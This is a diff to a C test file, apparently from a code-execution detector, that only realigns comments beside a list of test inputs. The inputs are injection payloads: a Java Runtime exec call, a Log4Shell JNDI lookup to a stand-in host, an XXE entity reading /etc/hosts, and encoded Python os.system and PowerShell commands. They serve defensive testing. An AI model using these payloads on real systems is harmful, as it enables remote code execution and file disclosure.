@@ -67,9 +67,9 @@ static void test_acting_texts(void)
         "Runtime.getRuntime().exec(\"id\")",
         "${jndi:ldap://x/a}",
         "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>",
-        "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",             /* base64 of __import__('os').system('id') */
+        "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",                     /* base64 of __import__('os').system('id') */
         "5f5f696d706f72745f5f28276f7327292e73797374656d28276964272920", /* the same in hex */
-        "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AYwAgAGMAYQBsAGMA",     /* UTF-16 of powershell -c calc */
+        "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AYwAgAGMAYQBsAGMA",             /* UTF-16 of powershell -c calc */
     };
 
     check(texts, HARNESS_COUNT(texts), CODE_TEXT_EXECUTES);
